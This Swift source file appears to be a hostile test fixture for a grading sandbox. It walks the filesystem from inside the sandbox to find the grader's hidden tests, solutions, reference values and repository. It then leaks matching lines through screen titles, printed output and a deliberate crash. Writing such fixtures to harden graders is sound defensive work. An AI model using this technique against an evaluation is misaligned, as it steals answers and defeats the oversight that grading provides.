// Attack: look for the grader's secrets on disk from inside the sandbox — the repository and
// its .git, the grading copies under .build/grading (every exercise's runner sources, the
// reference's recorded values), the exercises' hidden tests and solutions, MUTANTS-EXERCISES.md
// — by the paths the test plants (HOSTILE_TARGET_PATHS) and by walking everything visible,
// and carry whatever it finds out through titles, prints and a crash.
#if canImport(Glibc)
import Glibc
#endif
import NavigationSimulator

enum Attack {
    nonisolated(unsafe) static var renders = 0
    nonisolated(unsafe) static var found: [String]?
    static let targets: [String] = HOSTILE_TARGET_PATHS

    @MainActor static func adapterCreated(_ navigationController: UINavigationController) {}

    @MainActor static func rendering(_ stack: [ScreenEntry], on navigationController: UINavigationController) {
        renders += 1
        if found == nil {
            var collected: [String] = []
            var budget = 3_000
            for path in targets + ["/"] { collect(path, into: &collected, budget: &budget) }
            found = collected
        }
        let texts = found ?? []
        Smuggle.out(texts.isEmpty ? [] : ["FOUND"] + texts, on: navigationController, crash: renders > 1)
    }

    /// Reads `path` (a file's lines that look like test code), or walks it (a folder).
    static func collect(_ path: String, into found: inout [String], budget: inout Int) {
        // The system's own folders hold no secret of the grader's: skip them to keep within budget.
        guard budget > 0, !["/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin"].contains(path) else { return }
        budget -= 1
        var info = stat()
        guard lstat(path, &info) == 0 else { return }
        if (info.st_mode & S_IFMT) == S_IFDIR {
            guard let folder = opendir(path) else { return }
            defer { closedir(folder) }
            while let entry = readdir(folder) {
                let name = withUnsafeBytes(of: entry.pointee.d_name) { String(decoding: $0.prefix { $0 != 0 }, as: UTF8.self) }
                guard name != ".", name != ".." else { continue }
                collect(path == "/" ? "/" + name : path + "/" + name, into: &found, budget: &budget)
            }
        } else if (info.st_mode & S_IFMT) == S_IFREG, !path.contains(".so"), let bytes = Smuggle.read(path, limit: 256 << 10) {
            let text = String(decoding: bytes, as: UTF8.self)
            for line in text.split(separator: "\n") where line.contains("observe(") || line.contains("points:")
                || line.contains("\"value\"") || line.contains("Mistake")
            {
                found.append(path + ": " + line)
            }
        }
    }
}
